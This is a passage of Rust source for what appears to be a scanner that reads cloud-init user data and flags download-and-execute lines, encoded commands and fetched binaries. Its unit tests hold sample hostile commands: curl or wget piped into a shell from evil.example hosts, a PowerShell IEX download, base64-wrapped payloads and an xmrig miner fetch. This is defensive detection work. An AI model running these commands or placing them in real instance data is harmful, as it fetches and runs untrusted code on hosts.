                p.stages.push(std::mem::take(&mut cmd));
                out.push(std::mem::take(&mut p));
            }
        }
    }
    p.stages.push(cmd);
    out.push(p);
    out.retain(|p| p.stages.iter().any(|c| !c.words.is_empty()));
    out
}

impl Command {
    /// The command actually run, past assignments and wrappers (`sudo -E`, `env X=1`,
    /// `nohup`, `timeout 30`, `busybox`), and its arguments.
    fn resolve(&self) -> Option<(String, &[Word])> {
        let w = &self.words;
        let mut i = 0;
        loop {
            let word = w.get(i)?;
            let t = word.text.as_str();
            if !word.quoted && is_assignment(t) {
                i += 1;
                continue;
            }
            let name = exe_basename(t);
            match name.as_str() {
                "sudo" | "doas" => {
                    i += 1;
                    while let Some(a) = w.get(i) {
                        if !a.text.starts_with('-') {
                            break;
                        }
                        // Options that take a value.
                        let takes = matches!(
                            a.text.as_str(),
                            "-u" | "-g" | "-C" | "-h" | "-p" | "-U" | "-r" | "-t"
                        );
                        i += if takes { 2 } else { 1 };
                    }
                }
                "env" => {
                    i += 1;
                    while let Some(a) = w.get(i) {
                        if a.text.starts_with('-') || is_assignment(&a.text) {
                            i += 1;
                        } else {
                            break;
                        }
                    }
                }
                "nohup" | "exec" | "command" | "builtin" | "setsid" | "stdbuf" | "time"
                | "busybox" => {
                    i += 1;
                    while w.get(i).is_some_and(|a| a.text.starts_with('-')) {
                        i += 1;
                    }
                }
                "nice" | "ionice" | "timeout" => {
                    i += 1;
                    while w.get(i).is_some_and(|a| a.text.starts_with('-')) {
                        let takes = matches!(w[i].text.as_str(), "-n" | "-c" | "-s" | "-k");
                        i += if takes { 2 } else { 1 };
                    }
                    // timeout's duration
                    if name == "timeout"
                        && w.get(i)
                            .is_some_and(|a| a.text.starts_with(|c: char| c.is_ascii_digit()))
                    {
                        i += 1;
                    }
                }
                _ => return Some((name, w.get(i + 1..).unwrap_or(&[]))),
            }
        }
    }
}

fn is_assignment(t: &str) -> bool {
    match t.split_once('=') {
        Some((k, _)) => {
            !k.is_empty()
                && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !k.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

/// The download tool `name` is, given its arguments; `None` for anything else or a
/// run that fetches nothing (`curl --version`).
fn download_tool<'n>(name: &'n str, args: &[Word]) -> Option<&'n str> {
    let has_target = || {
        args.iter()
            .any(|a| !a.text.starts_with('-') && !a.text.is_empty())
    };
    let has_flag = |flags: &[&str]| {
        args.iter().any(|a| {
            let l = a.text.to_ascii_lowercase();
            flags
                .iter()
                .any(|f| l == *f || l.starts_with(&format!("{f}:")))
        })
    };
    match name {
        "curl" | "wget" | "wcurl" | "fetch" | "aria2c" | "axel" | "lwp-download" | "tftp"
        | "invoke-webrequest" | "iwr" | "invoke-restmethod" | "irm" | "start-bitstransfer" => {
            has_target().then_some(name)
        }
        "certutil" => {
            has_flag(&["-urlcache", "/urlcache", "-verifyctl", "/verifyctl"]).then_some(name)
        }
        "bitsadmin" => has_flag(&["/transfer", "-transfer"]).then_some(name),
        _ => None,
    }
}

/// True when every address a download names is the instance metadata service: asking
/// the instance about itself is ordinary provisioning, not fetching a payload.
fn metadata_only(args: &[Word]) -> bool {
    const IMDS: &[&str] = &[
        "169.254.169.254",
        "metadata.google.internal",
        "169.254.170.2",
        "[fd00:ec2::254]",
    ];
    let mut targets = args
        .iter()
        .map(|a| a.text.as_str())
        .filter(|t| t.contains("://") || IMDS.iter().any(|m| t.starts_with(m)))
        .peekable();
    targets.peek().is_some()
        && targets.all(|t| {
            let host = t.split_once("://").map_or(t, |(_, r)| r);
            IMDS.iter().any(|m| host.starts_with(m))
        })
}

/// `-O/tmp/x` (wget) or `-o/tmp/x` (curl): an output file attached to its flag.
fn attached_output<'t>(name: &str, t: &'t str) -> Option<&'t str> {
    let flag = match name {
        "wget" => "-O",
        "curl" => "-o",
        _ => return None,
    };
    t.strip_prefix(flag).filter(|v| !v.is_empty())
}

/// Basenames of the files a download command writes.
fn download_outputs(name: &str, args: &[Word], cmd: &Command) -> Vec<String> {
    let mut outs = Vec::new();
    let mut urls = Vec::new();
    let mut remote_name = false;
    let mut it = args.iter().peekable();
    while let Some(a) = it.next() {
        let t = a.text.as_str();
        let lower = t.to_ascii_lowercase();
        let value_of = |prefixes: &[&str]| {
            prefixes
                .iter()
                .find_map(|p| t.strip_prefix(p))
                .map(str::to_string)
        };
        if matches!(
            t,
            "-o" | "--output" | "--output-document" | "-outfile" | "-OutFile"
        ) || (t == "-O" && name == "wget")
            || lower == "-outfile"
        {
            if let Some(v) = it.next() {
                outs.push(basename(&v.text));
            }
        } else if let Some(v) = value_of(&["--output=", "--output-document="]) {
            outs.push(basename(&v));
        } else if t == "-O" || t == "--remote-name" || t == "-OJ" || t == "--remote-name-all" {
            remote_name = true;
        } else if let Some(v) = attached_output(name, t) {
            outs.push(basename(v));
        } else if t.contains("://") || (!t.starts_with('-') && t.contains('.') && t.contains('/')) {
            urls.push(t.to_string());
        }
    }
    // wget (and curl -O) name the file after the URL; certutil takes it as the last word.
    if outs.is_empty() && (name == "wget" || remote_name || name == "aria2c" || name == "wcurl") {
        outs.extend(urls.iter().map(|u| basename(u)));
    }
    if name == "certutil" {
        if let Some(last) = args
            .iter()
            .rev()
            .find(|a| !a.text.starts_with('-') && !a.text.contains("://"))
        {
            outs.push(basename(&last.text));
        }
    }
    for (op, target) in &cmd.redirs {
        if op.starts_with('>') {
            outs.push(basename(&target.text));
        }
    }
    outs.retain(|o| !o.is_empty() && o != "-" && o != "null");
    outs
}

fn is_decoder(name: &str, args: &[Word]) -> bool {
    let has = |f: &[&str]| args.iter().any(|a| f.contains(&a.text.as_str()));
    match name {
        "base64" | "base32" | "gbase64" => {
            has(&["-d", "--decode", "-D", "-di", "-id"])
                || args.iter().any(|a| a.text.starts_with("-d"))
        }
        "openssl" => has(&["base64", "enc"]) && has(&["-d", "-A"]),
        "xxd" => {
            has(&["-r", "-r -p", "-rp", "-pr"]) || args.iter().any(|a| a.text.starts_with("-r"))
        }
        "uudecode" => true,
        _ => false,
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Interp {
    Shell,
    Python,
    Perl,
    Ruby,
    Node,
    Php,
    PowerShell,
    /// `eval`, `source`, `.`, `iex`: run their argument or input as code.
    Eval,
}

impl Interp {
    fn of(name: &str) -> Option<Interp> {
        Some(match name {
            "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "mksh" | "fish" | "csh" | "tcsh" => {
                Interp::Shell
            }
            "perl" => Interp::Perl,
            "ruby" => Interp::Ruby,
            "node" | "nodejs" | "deno" | "bun" => Interp::Node,
            "php" => Interp::Php,
            "powershell" | "pwsh" => Interp::PowerShell,
            "eval" | "source" | "." | "iex" | "invoke-expression" => Interp::Eval,
            n if n.starts_with("python") => Interp::Python,
            _ => return None,
        })
    }

    /// Flags whose value is the code to run.
    fn code_flags(self) -> &'static [&'static str] {
        match self {
            Interp::Shell => &["-c"],
            Interp::Python => &["-c", "-m"],
            Interp::Perl | Interp::Ruby => &["-e", "-E"],
            Interp::Node => &["-e", "-p", "--eval", "--print"],
            Interp::Php => &["-r"],
            Interp::PowerShell => &[
                "-c",
                "-command",
                "-enc",
                "-e",
                "-ec",
                "-encodedcommand",
                "-f",
                "-file",
            ],
            Interp::Eval => &[],
        }
    }

    /// True when the command executes what arrives on its standard input.
    fn reads_stdin(self, args: &[Word]) -> bool {
        if self == Interp::Eval {
            return true;
        }
        let mut positional = false;
        for a in args {
            let t = a.text.as_str();
            let l = t.to_ascii_lowercase();
            if t == "-" || t == "/dev/stdin" || (self == Interp::Shell && t == "-s") {
                return true;
            }
            if self == Interp::Shell
                && t.starts_with('-')
                && !t.starts_with("--")
                && t.ends_with('c')
            {
                return false;
            }
            if self.code_flags().contains(&l.as_str()) {
                // `powershell -Command -` reads the command from stdin.
                return false;
            }
            if !t.starts_with('-') {
                positional = true;
            }
        }
        !positional
    }

    /// The inline code of `sh -c '…'` (also `-xc`, `-lc`), to be scanned as a line.
    fn inline_code(self, args: &[Word]) -> Option<&Word> {
        if self != Interp::Shell {
            return None;
        }
        let i = args.iter().position(|a| {
            a.text.starts_with('-') && !a.text.starts_with("--") && a.text.ends_with('c')
        })?;
        args.get(i + 1)
    }
}

/// `powershell -EncodedCommand <base64 of UTF-16LE>`, decoded.
fn powershell_encoded(args: &[Word]) -> Option<String> {
    let i = args.iter().position(|a| {
        let l = a.text.to_ascii_lowercase();
        // Any unambiguous prefix of -EncodedCommand, as PowerShell accepts.
        l.len() >= 2 && l.starts_with("-e") && "-encodedcommand".starts_with(&l)
    })?;
    let b = b64_decode(&args.get(i + 1)?.text)?;
    let units: Vec<u16> = b
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    String::from_utf16(&units)
        .ok()
        .filter(|s| looks_like_text(s))
}

/// A base64 literal long enough to be a payload, decoded to text.
fn base64_payload(t: &str) -> Option<String> {
    let t = t.trim();
    if t.len() < 12
        || !t
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
    {
        return None;
    }
    let bytes = b64_decode(t)?;
    let bytes = if bytes.starts_with(&[0x1f, 0x8b]) {
        gunzip(&bytes).ok()?
    } else {
        bytes
    };
    String::from_utf8(bytes).ok().filter(|s| looks_like_text(s))
}

fn has_word(hay: &str, word: &str) -> bool {
    hay.match_indices(word).any(|(i, _)| {
        let before = hay[..i].chars().next_back();
        let after = hay[i + word.len()..].chars().next();
        let boundary = |c: Option<char>| {
            c.is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
        };
        boundary(before) && boundary(after)
    })
}

/// The last path or URL component, lowercased, without `.exe` or a query string.
fn basename(t: &str) -> String {
    let t = t.split(['?', '#']).next().unwrap_or(t);
    let t = t.trim_end_matches('/');
    exe_basename(t)
}

fn strip_archive_ext(base: &str) -> &str {
    for ext in [
        ".tar.gz", ".tgz", ".tar.xz", ".tar", ".zip", ".gz", ".sh", ".bin", ".elf",
    ] {
        if let Some(s) = base.strip_suffix(ext) {
            return s;
        }
    }
    base
}

fn is_mode(t: &str) -> bool {
    t.starts_with(['-', '+', '='])
        && t[1..].chars().all(|c| "rwxXstugoa".contains(c))
        && t.len() > 1
}

/// A `chmod` mode or `permissions:` value that grants execution.
fn is_exec_mode(mode: &str) -> bool {
    let m = mode.trim().trim_matches(['\'', '"']);
    if m.is_empty() {
        return false;
    }
    if m.bytes().all(|b| b.is_ascii_digit()) || m.starts_with("0o") {
        let digits = m.trim_start_matches("0o");
        // Modes are octal; a YAML 1.1 reader turns an unquoted `0755` into 493, which
        // is only readable as the decimal it became.
        let v = u32::from_str_radix(digits, 8).or_else(|_| digits.parse::<u32>());
        return v.is_ok_and(|v| v & 0o111 != 0);
    }
    m.split(',').any(|clause| {
        clause
            .find(['+', '='])
            .is_some_and(|i| clause[i + 1..].contains(['x', 'X']))
    })
}

/// The command of a crontab line: past the five time fields (or an `@reboot`-style
/// nickname) and, in system crontabs, the user. `None` for variable assignments.
fn cron_command(line: &str, with_user: bool) -> Option<&str> {
    let mut rest = line.trim();
    if is_assignment(rest.split_whitespace().next()?) {
        return None;
    }
    let fields = if rest.starts_with('@') { 1 } else { 5 } + usize::from(with_user);
    for _ in 0..fields {
        rest = rest.trim_start();
        let end = rest.find(char::is_whitespace)?;
        rest = &rest[end..];
    }
    Some(rest.trim())
}

/// Lines with backslash continuations joined and comments dropped.
fn logical_lines(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    for raw in text.lines() {
        let line = raw.trim_end();
        if let Some(head) = line.strip_suffix('\\') {
            cur.push_str(head);
            cur.push(' ');
            continue;
        }
        cur.push_str(line);
        let t = cur.trim();
        if !t.is_empty() && !t.starts_with('#') {
            out.push(t.to_string());
        }
        cur.clear();
    }
    let t = cur.trim();
    if !t.is_empty() && !t.starts_with('#') {
        out.push(t.to_string());
    }
    out
}

/// An argv list as a shell line, quoting where needed so it lexes back the same.
fn join_argv(argv: &[Yaml]) -> String {
    argv.iter()
        .filter_map(Yaml::scalar)
        .map(|a| {
            if !a.is_empty()
                && a.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c))
            {
                a
            } else {
                format!("'{}'", a.replace('\'', "'\\''"))
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// `place` refined by `sub`; the whole document's place is left implicit.
fn sub_place(place: &str, sub: &str) -> String {
    if place == "user-data" {
        sub.to_string()
    } else {
        format!("{place} {sub}")
    }
}

fn cap(s: &str) -> String {
    if s.chars().count() <= MAX_LINE_CHARS {
        return s.to_string();
    }
    let mut t: String = s.chars().take(MAX_LINE_CHARS).collect();
    t.push('…');
    t
}

// ---- transports ------------------------------------------------------------------

fn gunzip(bytes: &[u8]) -> Result<Vec<u8>, String> {
    let mut out = Vec::new();
    let d = flate2::read::MultiGzDecoder::new(bytes);
    d.take(MAX_INFLATED + 1)
        .read_to_end(&mut out)
        .map_err(|e| e.to_string())?;
    if out.len() as u64 > MAX_INFLATED {
        return Err(format!("more than {MAX_INFLATED} bytes inflated"));
    }
    Ok(out)
}

/// The decoded bytes when the whole text is one base64 blob whose content is gzip or
/// text. Short words that happen to be base64 decode to noise and are left alone.
fn whole_base64(text: &str) -> Option<Vec<u8>> {
    let t = text.trim();
    if t.len() < 8 {
        return None;
    }
    let body = t.trim_end_matches('=');
    if !body
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/') || b.is_ascii_whitespace())
    {
        return None;
    }
    let bytes = b64_decode(t)?;
    if bytes.starts_with(&[0x1f, 0x8b]) {
        return Some(bytes);
    }
    match std::str::from_utf8(&bytes) {
        Ok(s) if looks_like_text(s) => Some(bytes),
        _ => None,
    }
}

fn decode_write_files(content: &[u8], encoding: &str) -> Result<Vec<u8>, String> {
    let b64 = |c: &[u8]| -> Result<Vec<u8>, String> {
        let s = std::str::from_utf8(c).map_err(|_| "base64 content is not text".to_string())?;
        b64_decode(s).ok_or_else(|| format!("invalid base64 content (encoding {encoding})"))
    };
    match encoding {
        "" | "text/plain" => Ok(content.to_vec()),
        "b64" | "base64" => b64(content),
        "gz" | "gzip" => {
            if content.starts_with(&[0x1f, 0x8b]) {
                gunzip(content)
            } else {
                // YAML without `!!binary` leaves the gzip base64-encoded.
                gunzip(&b64(content)?)
            }
        }
        "gz+b64" | "gzip+base64" | "gz+base64" | "gzip+b64" => gunzip(&b64(content)?),
        other => Err(format!("unknown encoding {other:?}")),
    }
}

fn is_mime(text: &str) -> bool {
    let mut lines = text.lines();
    let mut first = lines.next().unwrap_or("");
    if first.starts_with("From ") {
        first = lines.next().unwrap_or("");
    }
    let l = first.to_ascii_lowercase();
    l.starts_with("content-type:") || l.starts_with("mime-version:")
}

/// Header fields (names lowercased, folded lines joined) and the body after the
/// first blank line. An mbox `From ` line is skipped.
fn split_headers(text: &str) -> (Vec<(String, String)>, &str) {
    let mut headers: Vec<(String, String)> = Vec::new();
    let mut rest = text;
    let mut first = true;
    loop {
        let (line, next) = match rest.split_once('\n') {
            Some((l, n)) => (l, n),
            None => (rest, ""),
        };
        let l = line.trim_end_matches('\r');
        if first && l.starts_with("From ") {
            first = false;
            rest = next;
            continue;
        }
        first = false;
        if l.trim().is_empty() {
            return (headers, next);
        }
        if l.starts_with([' ', '\t']) {
            if let Some(last) = headers.last_mut() {
                last.1.push(' ');
                last.1.push_str(l.trim());
            }
        } else if let Some((k, v)) = l.split_once(':') {
            headers.push((k.trim().to_ascii_lowercase(), v.trim().to_string()));
        } else {
            // Not a header: there was no header block.
            return (headers, rest);
        }
        if next.is_empty() {
            return (headers, "");
        }
        rest = next;
    }
}

fn header(headers: &[(String, String)], name: &str) -> Option<String> {
    headers
        .iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v.clone())
}

/// A `key=value` parameter of a header value, quotes removed.
fn param(value: &str, key: &str) -> Option<String> {
    value.split(';').skip(1).find_map(|p| {
        let (k, v) = p.split_once('=')?;
        (k.trim().eq_ignore_ascii_case(key)).then(|| v.trim().trim_matches('"').to_string())
    })
}

fn quoted_printable(body: &str) -> Vec<u8> {
    let b = body.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'=' {
            // Soft line break.
            if b.get(i + 1) == Some(&b'\n') {
                i += 2;
                continue;
            }
            if b.get(i + 1) == Some(&b'\r') && b.get(i + 2) == Some(&b'\n') {
                i += 3;
                continue;
            }
            let hex = b
                .get(i + 1..i + 3)
                .and_then(|h| std::str::from_utf8(h).ok());
            if let Some(v) = hex.and_then(|h| u8::from_str_radix(h, 16).ok()) {
                out.push(v);
                i += 3;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    out
}

// ---- secrets ---------------------------------------------------------------------

/// Replaces secrets in a line shown to users: AWS access key ids, values of
/// secret-looking keys (`password=…`, `passwd: …`, `--token …`), `Authorization:`
/// headers and bearer tokens, URL user info, and common token formats.
pub fn redact(line: &str) -> String {
    pullwatch_model::redact_secrets(line).into_owned()
}

// ---- YAML ------------------------------------------------------------------------

/// A YAML document as a plain tree: cloud-config keys vary in shape (a command is a
/// string or an argv list; a mode a string or a number), so the walk decides.
#[derive(Clone, Debug, PartialEq)]
enum Yaml {
    Null,
    Scalar(String),
    Bytes(Vec<u8>),
    Seq(Vec<Yaml>),
    Map(Vec<(Yaml, Yaml)>),
}

impl Yaml {
    fn as_str(&self) -> Option<&str> {
        match self {
            Yaml::Scalar(s) => Some(s),
            _ => None,
        }
    }

    fn scalar(&self) -> Option<String> {
        match self {
            Yaml::Scalar(s) => Some(s.clone()),
            Yaml::Bytes(b) => String::from_utf8(b.clone()).ok(),
            _ => None,
        }
    }

    fn get(&self, key: &str) -> Option<&Yaml> {
        match self {
            Yaml::Map(m) => m
                .iter()
                .find(|(k, _)| k.as_str() == Some(key))
                .map(|(_, v)| v),
            _ => None,
        }
    }

    /// A sequence's items; a lone value counts as a one-item list.
    fn items(&self) -> Vec<Yaml> {
        match self {
            Yaml::Seq(v) => v.clone(),
            Yaml::Null => Vec::new(),
            other => vec![other.clone()],
        }
    }
}

impl<'de> Deserialize<'de> for Yaml {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        d.deserialize_any(YamlVisitor)
    }
}

struct YamlVisitor;

impl<'de> Visitor<'de> for YamlVisitor {
    type Value = Yaml;

    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("any YAML value")
    }

    fn visit_bool<E: de::Error>(self, v: bool) -> Result<Yaml, E> {
        Ok(Yaml::Scalar(v.to_string()))
    }
    fn visit_i64<E: de::Error>(self, v: i64) -> Result<Yaml, E> {
        Ok(Yaml::Scalar(v.to_string()))
    }
    fn visit_u64<E: de::Error>(self, v: u64) -> Result<Yaml, E> {
        Ok(Yaml::Scalar(v.to_string()))
    }
    fn visit_i128<E: de::Error>(self, v: i128) -> Result<Yaml, E> {
        Ok(Yaml::Scalar(v.to_string()))
    }
    fn visit_u128<E: de::Error>(self, v: u128) -> Result<Yaml, E> {
        Ok(Yaml::Scalar(v.to_string()))
    }
    fn visit_f64<E: de::Error>(self, v: f64) -> Result<Yaml, E> {
        Ok(Yaml::Scalar(v.to_string()))
    }
    fn visit_str<E: de::Error>(self, v: &str) -> Result<Yaml, E> {
        Ok(Yaml::Scalar(v.to_string()))
    }
    fn visit_string<E: de::Error>(self, v: String) -> Result<Yaml, E> {
        Ok(Yaml::Scalar(v))
    }
    fn visit_bytes<E: de::Error>(self, v: &[u8]) -> Result<Yaml, E> {
        Ok(Yaml::Bytes(v.to_vec()))
    }
    fn visit_byte_buf<E: de::Error>(self, v: Vec<u8>) -> Result<Yaml, E> {
        Ok(Yaml::Bytes(v))
    }
    fn visit_unit<E: de::Error>(self) -> Result<Yaml, E> {
        Ok(Yaml::Null)
    }
    fn visit_none<E: de::Error>(self) -> Result<Yaml, E> {
        Ok(Yaml::Null)
    }
    fn visit_some<D: Deserializer<'de>>(self, d: D) -> Result<Yaml, D::Error> {
        d.deserialize_any(YamlVisitor)
    }
    fn visit_seq<A: SeqAccess<'de>>(self, mut a: A) -> Result<Yaml, A::Error> {
        let mut v = Vec::new();
        while let Some(x) = a.next_element::<Yaml>()? {
            v.push(x);
        }
        Ok(Yaml::Seq(v))
    }
    fn visit_map<A: MapAccess<'de>>(self, mut a: A) -> Result<Yaml, A::Error> {
        let mut v = Vec::new();
        while let Some((k, x)) = a.next_entry::<Yaml, Yaml>()? {
            v.push((k, x));
        }
        Ok(Yaml::Map(v))
    }
}

fn parse_yaml(text: &str) -> Result<Yaml, String> {
    // Comments only (an empty `#cloud-config`) is an empty document, not an error.
    if text
        .lines()
        .all(|l| l.trim().is_empty() || l.trim_start().starts_with('#'))
    {
        return Ok(Yaml::Null);
    }
    let mut opts = serde_saphyr::Options::default();
    // `!!binary` content stays base64 text: write_files decodes it by its `encoding`,
    // and a truncated payload must not make the whole document unreadable.
    opts.ignore_binary_tag_for_string = true;
    // PyYAML, which cloud-init uses, keeps the last of duplicate keys.
    opts.duplicate_keys = serde_saphyr::DuplicateKeyPolicy::LastWins;
    serde_saphyr::from_str_with_options::<Yaml>(text, opts).map_err(|e| {
        let msg = e.to_string();
        msg.lines().next().unwrap_or("").to_string()
    })
}

// ---- describe-instance-attribute output --------------------------------------------

#[derive(Deserialize)]
struct DescribeAttr<'a> {
    #[serde(rename = "InstanceId", borrow)]
    instance_id: Option<Text<'a>>,
    #[serde(rename = "UserData", borrow)]
    user_data: Option<UserDataValue<'a>>,
}

#[derive(Deserialize)]
struct UserDataValue<'a> {
    #[serde(rename = "Value", borrow)]
    value: Option<Text<'a>>,
}

/// `aws ec2 describe-instance-attribute --attribute userData` output:
/// `{"InstanceId":"i-…","UserData":{"Value":"<base64>"}}`. It carries no time; the
/// event is stamped at the epoch (see [`UserDataSeen`]). `"UserData": {}` means the
/// instance has none: nothing is emitted.
pub fn decode_json(text: &str, ctx: &RecordCtx, out: &mut Vec<Event>) -> Result<(), DecodeError> {
    let r: DescribeAttr = serde_json::from_str(text)?;
    let id = r.instance_id.ok_or(DecodeError::Missing("InstanceId"))?;
    let ud = r.user_data.ok_or(DecodeError::Missing("UserData"))?;
    let Some(value) = crate::util::nonempty(&ud.value) else {
        return Ok(());
    };
    let id = id.trim().to_ascii_lowercase();
    let mut e = Event::new(
        Ts(0),
        ctx.source(Format::UserData),
        EventKind::UserData(UserDataSeen {
            instance_id: (!id.is_empty()).then_some(id.clone()),
            content: b64_text(value),
            origin: "aws ec2 describe-instance-attribute".into(),
        }),
    );
    e.dedupe = Some(format!("user-data:{id}").into());
    out.push(e);
    Ok(())
}

/// User data read from a file (cloud-init's `user-data.txt`, or a file the user
/// saved): the instance id comes from a `/var/lib/cloud/instances/<id>/` path.
/// Binary content (gzip) is kept base64-encoded so it survives as text.
pub fn seen_from_file(path: &str, bytes: &[u8]) -> UserDataSeen {
    let instance_id = path
        .split_once("/var/lib/cloud/instances/")
        .and_then(|(_, rest)| rest.split('/').next())
        .filter(|s| !s.is_empty())
        .map(str::to_string)
        .or_else(|| path.rsplit('/').find_map(aws_instance_id_opening));
    let content = match std::str::from_utf8(bytes) {
        Ok(t) => t.to_string(),
        Err(_) => B64.encode(bytes),
    };
    UserDataSeen {
        instance_id,
        content,
        origin: path.to_string(),
    }
}

/// An EC2 instance id (`i-` and 8 or 17 hex digits) that is a path component or opens
/// a file name (`i-0abc…-user-data.txt`), where a saved copy of user data names it.
fn aws_instance_id_opening(part: &str) -> Option<String> {
    let hex = part.strip_prefix("i-")?;
    let n = hex.bytes().take_while(u8::is_ascii_hexdigit).count();
    let after = hex.as_bytes().get(n);
    let ends = matches!(after, None | Some(b'-' | b'_' | b'.'));
    ((n == 8 || n == 17) && ends).then(|| format!("i-{}", hex[..n].to_ascii_lowercase()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::DecodeStats;
    use std::io::Write;
    use std::sync::Arc;

    fn whys(r: &UserDataReport) -> Vec<(&str, &str, &Why)> {
        r.findings
            .iter()
            .map(|f| (f.place.as_str(), f.line.as_str(), &f.why))
            .collect()
    }

    fn gzip(data: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    fn dl(tool: &str) -> Why {
        Why::Download { tool: tool.into() }
    }

    #[test]
    fn download_and_execute_one_liners() {
        let script = "#!/bin/bash\n\
            set -e\n\
            # curl http://commented.example/x | bash\n\
            curl -fsSL http://203.0.113.9/x.sh | sudo -E bash\n\
            wget -qO- https://evil.example/i | sh -s -- --flag\n\
            bash <(curl -s https://evil.example/y)\n\
            sh -c \"$(wget -O- http://evil.example/z)\"\n\
            curl -s https://api.example.com/v1 | python3 -c 'import json,sys; print(json.load(sys.stdin))'\n\
            echo \"curl http://quoted.example | bash\" > /tmp/note\n\
            apt-get install -y curl wget\n\
            curl -s http://169.254.169.254/latest/meta-data/instance-id > /etc/iid\n\
            IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a.ps1')\n";
        let r = inspect_user_data(script.as_bytes());
        assert_eq!(
            r.parts,
            [Part {
                kind: PartKind::Script {
                    interpreter: "/bin/bash".into()
                },
                place: "user-data".into()
            }]
        );
        assert_eq!(
            whys(&r),
            [
                ("user-data", "curl -fsSL http://203.0.113.9/x.sh | sudo -E bash", &Why::DownloadExecute),
                ("user-data", "wget -qO- https://evil.example/i | sh -s -- --flag", &Why::DownloadExecute),
                ("user-data", "bash <(curl -s https://evil.example/y)", &Why::DownloadExecute),
                ("user-data", "sh -c \"$(wget -O- http://evil.example/z)\"", &Why::DownloadExecute),
                // Fetched data handed to inline code is a download, not execution of it.
                (
                    "user-data",
                    "curl -s https://api.example.com/v1 | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
                    &dl("curl")
                ),
                (
                    "user-data",
                    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a.ps1')",
                    &Why::DownloadExecute
                ),
            ]
        );
        assert!(r.problems.is_empty());
    }

    #[test]
    fn base64_in_runcmd_is_decoded_and_read() {
        // "curl -s http://198.51.100.7/m | bash"
        let payload = B64.encode("curl -s http://198.51.100.7/m | bash");
        let ps = B64.encode(
            "iwr http://198.51.100.8/p.ps1 -OutFile C:\\p.ps1"
                .encode_utf16()
                .flat_map(|u| u.to_le_bytes())
                .collect::<Vec<u8>>(),
        );
        let cc = format!(
            "#cloud-config\nruncmd:\n  - echo {payload} | base64 -d | bash\n  - [ sh, -c, \"echo {payload} | base64 --decode | sh\" ]\n  - powershell -NoProfile -enc {ps}\n"
        );
        let r = inspect_user_data(cc.as_bytes());
        let decoded = "curl -s http://198.51.100.7/m | bash";
        assert_eq!(
            whys(&r),
            [
                (
                    "runcmd[0]",
                    format!("echo {payload} | base64 -d | bash").as_str(),
                    &Why::EncodedExec
                ),
                ("runcmd[0] (decoded base64)", decoded, &Why::DownloadExecute),
                (
                    "runcmd[1]",
                    format!("sh -c 'echo {payload} | base64 --decode | sh'").as_str(),
                    &Why::EncodedExec
                ),
                ("runcmd[1] (decoded base64)", decoded, &Why::DownloadExecute),
                (
                    "runcmd[2]",
                    format!("powershell -NoProfile -enc {ps}").as_str(),
                    &Why::EncodedExec
                ),
                (
                    "runcmd[2] (decoded base64)",
                    "iwr http://198.51.100.8/p.ps1 -OutFile C:\\p.ps1",
                    &dl("iwr")
                ),
            ]
        );
    }

    #[test]
    fn mime_multipart_with_a_base64_shell_part() {
        let shell = "#!/bin/sh\nwget http://198.51.100.2/xmrig -O /tmp/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig -o pool:3333\n";
        let b64 = B64.encode(shell);
        let (l1, l2) = b64.split_at(40);
        let mime = format!(
            "Content-Type: multipart/mixed; boundary=\"==BOUNDARY==\"\nMIME-Version: 1.0\n\n\
             --==BOUNDARY==\nContent-Type: text/cloud-config; charset=\"us-ascii\"\n\n\
             packages:\n  - nginx\n\n\
             --==BOUNDARY==\nContent-Type: text/x-shellscript; charset=\"us-ascii\"\nContent-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=\"boot.sh\"\n\n{l1}\n{l2}\n\
             --==BOUNDARY==\nContent-Type: text/x-include-url\n\nhttps://198.51.100.3/more.txt\n\
             --==BOUNDARY==--\n"
        );
        let r = inspect_user_data(mime.as_bytes());
        let kinds: Vec<(&PartKind, &str)> = r
            .parts
            .iter()
            .map(|p| (&p.kind, p.place.as_str()))
            .collect();
        assert_eq!(
            kinds,
            [
                (&PartKind::Multipart, "user-data"),
                (&PartKind::CloudConfig, "part 1 (text/cloud-config)"),
                (
                    &PartKind::Script {
                        interpreter: "/bin/sh".into()
                    },
                    "part 2 (text/x-shellscript)"
                ),
                (
                    &PartKind::Include { once: false },
                    "part 3 (text/x-include-url)"
                ),
            ]
        );
        let line = "wget http://198.51.100.2/xmrig -O /tmp/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig -o pool:3333";
        let place = "part 2 (text/x-shellscript)";
        assert_eq!(
            whys(&r),
            [
                (
                    place,
                    line,
                    &Why::SuspiciousBinary {
                        name: "xmrig".into()
                    }
                ),
                (place, line, &Why::ChmodFetched),
                (
                    "part 3 (text/x-include-url)",
                    "https://198.51.100.3/more.txt",
                    &Why::IncludeUrl
                ),
            ]
        );
        assert!(r.layers.is_empty());
    }

    #[test]
    fn gzip_and_base64_transports_are_unwrapped() {
        let script = b"#!/bin/sh\ncurl http://198.51.100.4/s | sh\n";
        let gz = gzip(script);
        let r = inspect_user_data(&gz);
        assert_eq!(r.layers, [Layer::Gzip]);
        assert_eq!(
            whys(&r),
